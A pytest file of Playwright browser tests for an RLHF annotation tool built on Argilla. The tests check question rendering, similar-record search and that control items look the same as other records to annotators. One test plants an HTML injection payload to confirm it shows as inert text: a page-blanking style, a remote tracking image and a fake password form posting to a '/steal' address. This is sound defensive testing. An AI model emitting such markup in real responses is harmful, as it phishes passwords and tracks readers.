"""Real browser check: Debian's chromium (via Playwright) shows the pushed record's questions.

Needs ``/usr/bin/chromium`` (``make test`` installs it with apt-get when run as root) and the
owner's password, which only a local stack started by rlhf-argilla knows; otherwise it skips.
The screenshot lands in ``.test-artifacts/browser/`` (git-ignored) and its path is printed.
"""

from __future__ import annotations

import re
import uuid
from contextlib import contextmanager
from pathlib import Path

import pytest

from rlhf_argilla.annotation.vectors import VECTOR_PROMPT

pytestmark = [pytest.mark.browser, pytest.mark.integration]

CHROMIUM = Path("/usr/bin/chromium")
ARTIFACTS = Path(__file__).resolve().parents[2] / ".test-artifacts" / "browser"
LAUNCH_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-dev-shm-usage",
    "--disable-extensions",
    "--no-first-run",
]


def _annotation_page(driver, owner_login, target, dataset_id, on_request=None):
    """(browser, page) signed in as the owner, on the dataset's annotation page; the caller closes it.

    ``on_request`` is called with the URL of every request the page makes, from before sign-in.
    """
    browser = driver.chromium.launch(executable_path=str(CHROMIUM), args=LAUNCH_ARGS)
    page = browser.new_page(viewport={"width": 1440, "height": 1000})
    page.set_default_timeout(60_000)
    if on_request is not None:
        page.on("request", lambda request: on_request(request.url))
    page.goto(f"{target.url}/sign-in")
    page.locator("input:not([type=password])").first.fill(owner_login.username)
    page.locator("input[type=password]").fill(owner_login.password)
    page.locator("button[type=submit]").click()
    page.wait_for_url(lambda url: "sign-in" not in url)
    page.goto(f"{target.url}/dataset/{dataset_id}/annotation-mode")
    return browser, page


@contextmanager
def _pushed(client, pairs_dir, prefix):
    """``pairs_dir`` pushed into a fresh workspace and dataset, both deleted afterwards."""
    import argilla as rg

    from rlhf_argilla.annotation.push import push_file

    name = f"{prefix}-{uuid.uuid4().hex[:8]}"
    workspace = rg.Workspace(name=name, client=client).create()
    try:
        push_file(client, pairs_dir, dataset=name, workspace=name)
        yield client.datasets(name=name, workspace=name)
    finally:
        for dataset in list(workspace.datasets):
            dataset.delete()
        workspace.delete()


@pytest.fixture(scope="module")
def owner_login(argilla_settings):
    from rlhf_argilla.server.stack import LocalStack

    if not CHROMIUM.exists():
        pytest.skip(
            f"Debian chromium not found at {CHROMIUM}: run `make test` as root, or `apt-get install chromium`"
        )
    pytest.importorskip("playwright.sync_api", reason="playwright is not installed (pip install -e .[dev])")
    credentials = LocalStack(argilla_settings).credentials()
    if argilla_settings.api_url or credentials is None:
        pytest.skip(
            "the browser test logs in with the local stack's owner password; a remote server has none here"
        )
    return credentials


@pytest.fixture
def pushed_dataset(argilla_client, tmp_path):

    from tests.annotation.pairs_factory import make_pairs, write_pairs

    with _pushed(argilla_client, write_pairs(tmp_path, make_pairs(3, seed=21)), "t-ui") as dataset:
        yield dataset


def test_annotation_page_shows_the_ranking_and_rating_questions(owner_login, pushed_dataset, argilla_target):
    from playwright.sync_api import expect, sync_playwright

    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    shot = ARTIFACTS / "annotation-page.png"
    with sync_playwright() as driver:
        browser, page = _annotation_page(driver, owner_login, argilla_target, pushed_dataset.id)
        try:
            expect(page.get_by_text("Overall: which answer is better", exact=False).first).to_be_visible()
            page.screenshot(path=str(shot), full_page=True)
            expect(
                page.get_by_text(re.compile(r"Question \d+ \(21\)")).first
            ).to_be_visible()  # pushed prompt
            expect(page.get_by_text("Response A", exact=True).first).to_be_visible()
            for criterion in ("Accuracy", "Safety", "Clarity", "Completeness", "Actionability"):
                for side in "AB":
                    expect(page.get_by_text(f"{criterion} of response {side}").first).to_be_visible()
            expect(page.get_by_role("button", name=re.compile("Submit"))).to_be_visible()
        finally:
            browser.close()
    print(f"\nscreenshot of the annotation page: {shot}")
    assert shot.stat().st_size > 10_000


HOSTILE_HOST = "203.0.113.9"  # TEST-NET-3: never routed, and no request may even be attempted
HOSTILE = (
    "Keep a neutral spine.\n\n<style>body{display:none}</style>\n"
    f'<img src="http://{HOSTILE_HOST}/pixel.png">\n'
    f'<form action="http://{HOSTILE_HOST}/steal"><input type="password" name="pw" '
    'placeholder="re-enter your Argilla password"><button>Sign in</button></form>'
)


@pytest.fixture
def hostile_dataset(argilla_client, tmp_path):
    """One pushed pair whose response 1 carries a <style>, a remote <img> and a password <form>."""

    from rlhf_argilla.schema import PairRow
    from tests.annotation.pairs_factory import make_pair, write_pairs

    pair = make_pair(0, seed=23)
    hostile = pair.response_1.model_copy(update={"text": HOSTILE})
    pair = pair.model_copy(
        update={
            "response_1": hostile,
            "pair_id": PairRow.make_id(pair.prompt, HOSTILE, pair.response_2.text),
        }
    )
    with _pushed(argilla_client, write_pairs(tmp_path, [pair]), "t-ui-hostile") as dataset:
        yield dataset


def test_generated_html_renders_as_harmless_text(owner_login, hostile_dataset, argilla_target):
    """A response holding <style>, a remote <img> and a <form> shows as text: no element, no request."""
    from playwright.sync_api import expect, sync_playwright

    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    shot = ARTIFACTS / "hostile-record.png"
    attempted: list[str] = []
    with sync_playwright() as driver:
        browser, page = _annotation_page(
            driver, owner_login, argilla_target, hostile_dataset.id, on_request=attempted.append
        )
        try:
            expect(page.get_by_text("Keep a neutral spine.").first).to_be_visible()  # the page is not blanked
            expect(page.get_by_text("re-enter your Argilla password", exact=False).first).to_be_visible()
            page.screenshot(path=str(shot), full_page=True)
            assert page.locator("input[type=password]").count() == 0
            assert page.locator(f'form[action*="{HOSTILE_HOST}"], img[src*="{HOSTILE_HOST}"]').count() == 0
            injected = page.evaluate(
                "[...document.querySelectorAll('style')].some(s => s.textContent.includes('body{display:none}'))"
            )
            assert injected is False
            assert page.locator("body").is_visible()
        finally:
            browser.close()
    assert not [url for url in attempted if HOSTILE_HOST in url]
    print(f"\nscreenshot of the hostile record: {shot}")


def test_find_similar_on_a_record_lists_its_neighbours(owner_login, pushed_dataset, argilla_target):
    """The UI's "Find similar" (a kNN query on the prompt vector, answered by the local stack) lists the
    other records, the nearest by cosine first."""
    import numpy as np
    from playwright.sync_api import expect, sync_playwright

    stored = {
        record.fields["prompt"]: np.asarray(record.vectors[VECTOR_PROMPT])
        for record in pushed_dataset.records(with_vectors=True)
    }
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    shot = ARTIFACTS / "find-similar.png"
    with sync_playwright() as driver:
        browser, page = _annotation_page(driver, owner_login, argilla_target, pushed_dataset.id)
        try:
            expect(page.get_by_text("Find similar").first).to_be_visible()
            query = next(prompt for prompt in stored if page.get_by_text(prompt).count())
            page.get_by_text("Find similar").first.click()

            expect(page.get_by_text("Similar to").first).to_be_visible()
            expect(page.get_by_text(f"1 of {len(stored) - 1}").first).to_be_visible()  # itself left out
            unit = {prompt: vector / np.linalg.norm(vector) for prompt, vector in stored.items()}
            nearest = max((p for p in unit if p != query), key=lambda p: float(unit[p] @ unit[query]))
            expect(page.get_by_text(nearest).first).to_be_visible()
            page.screenshot(path=str(shot), full_page=True)
        finally:
            browser.close()
    print(f"\nscreenshot of find similar: {shot}")


@pytest.fixture
def controls_dataset(argilla_client, argilla_target, tmp_path):
    """Two blind pairs plus two control items (one flaw-edit, one gold), and an annotator who may
    sign in: (dataset, username, password, {pair id: control source or None}, {pair id: prompt})."""
    import secrets

    import argilla as rg
    import httpx

    from rlhf_argilla.annotation.blind import BlindPlan
    from rlhf_argilla.annotation.controls import ControlPlan, select_controls
    from rlhf_argilla.annotation.push import push_file
    from tests.annotation.pairs_factory import make_pairs, write_pairs

    pairs = make_pairs(2, seed=25)
    plan = ControlPlan(count=2)
    controls = {c.pair.pair_id: (c.mark.source, c.pair.prompt) for c in select_controls(pairs, 2, plan)}
    kinds = {**{p.pair_id: (None, p.prompt) for p in pairs}, **controls}
    name = f"t-ui-mixed-{uuid.uuid4().hex[:8]}"
    workspace = rg.Workspace(name=name, client=argilla_client).create()
    api, headers = f"{argilla_target.url}/api/v1", {"X-Argilla-Api-Key": argilla_target.api_key}
    password = secrets.token_urlsafe(12)
    user = httpx.post(
        f"{api}/users",
        headers=headers,
        timeout=60,
        json={"username": name, "first_name": "UI", "role": "annotator", "password": password},
    ).json()
    try:
        # every ordinary record blind: controls carry no suggestions, like the blind slice
        push_file(
            argilla_client,
            write_pairs(tmp_path, pairs),
            dataset=name,
            workspace=name,
            blind=BlindPlan(share=1.0),
            controls=plan,
        )
        httpx.post(
            f"{api}/workspaces/{workspace.id}/users",
            headers=headers,
            timeout=60,
            json={"user_id": user["id"]},
        ).raise_for_status()
        yield argilla_client.datasets(name=name, workspace=name), name, password, kinds
    finally:
        for dataset in list(workspace.datasets):
            dataset.delete()
        workspace.delete()
        httpx.delete(f"{api}/users/{user['id']}", headers=headers, timeout=60)


def _page_lines(page, texts: list[str]) -> set[str]:
    """The visible lines of the page with the record's own texts (prompt, answers) taken out."""
    body = page.locator("body").inner_text()
    for text in sorted(texts, key=len, reverse=True):
        for line in text.splitlines():
            if line.strip():
                body = body.replace(line.strip(), "")
    body = re.sub(
        r"\b[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\b", "UUID", body
    )  # server id
    return {" ".join(re.sub(r"\d+", "N", line).split()) for line in body.splitlines() if line.strip()}


def test_a_control_record_looks_like_any_other_to_an_annotator(controls_dataset, argilla_target, owner_login):
    """Signed in as an annotator, each record's page shows the same labels and questions; nothing
    says control, gold or flaw, and no hidden metadata shows."""
    from playwright.sync_api import expect, sync_playwright

    dataset, username, password, kinds = controls_dataset
    texts = {
        record.id: [record.fields["prompt"], record.fields["response_a"], record.fields["response_b"]]
        for record in dataset.records
    }
    visible = {  # the metadata annotators may see; their values differ per record
        record.id: [str(record.metadata[name]) for name in ("subtopic", "persona", "difficulty")]
        for record in dataset.records
    }
    from types import SimpleNamespace

    login = SimpleNamespace(username=username, password=password)  # what _annotation_page signs in with
    seen: dict[str, set[str]] = {}
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as driver:
        browser, page = _annotation_page(driver, login, argilla_target, dataset.id)
        try:
            for number in range(1, len(kinds) + 1):
                page.goto(
                    f"{argilla_target.url}/dataset/{dataset.id}/annotation-mode?page={number}&status=pending"
                )
                expect(page.get_by_text("Overall: which answer is better", exact=False).first).to_be_visible()
                expect(page.get_by_text(f"of {len(kinds)}", exact=True).first).to_be_visible()
                page.wait_for_load_state("networkidle")  # the toolbar (Sort...) is complete
                body = " ".join(page.locator("body").inner_text().split())
                # a flaw-edit control shares its prompt with its source pair: match all three texts
                matches = [pid for pid, own in texts.items() if all(" ".join(t.split()) in body for t in own)]
                assert len(matches) == 1, matches
                shown = matches[0]
                page.locator("button.record-menu__header").click()
                page.get_by_text("View metadata").first.click()  # what the record menu shows an annotator
                expect(page.get_by_text("subtopic", exact=False).last).to_be_visible()
                seen[shown] = _page_lines(page, [*texts[shown], *visible[shown], shown])
                if kinds[shown][0] is not None:
                    page.screenshot(path=str(ARTIFACTS / f"control-{kinds[shown][0]}.png"), full_page=True)
                page.keyboard.press("Escape")
        finally:
            browser.close()
    assert set(seen) == set(kinds)  # every record was on a page of its own
    ordinary = [lines for pid, lines in seen.items() if kinds[pid][0] is None]
    for pid, lines in seen.items():
        telling = [
            line for line in lines if re.search(r"control|gold|flaw|hand-written|expected", line, re.I)
        ]
        assert not telling, (kinds[pid][0], telling)
        assert lines == ordinary[0], (kinds[pid][0], lines ^ ordinary[0])
    print(
        f"\n{len(seen)} records, {len(ordinary[0])} visible label lines each, identical: {sorted(ordinary[0])}"
    )
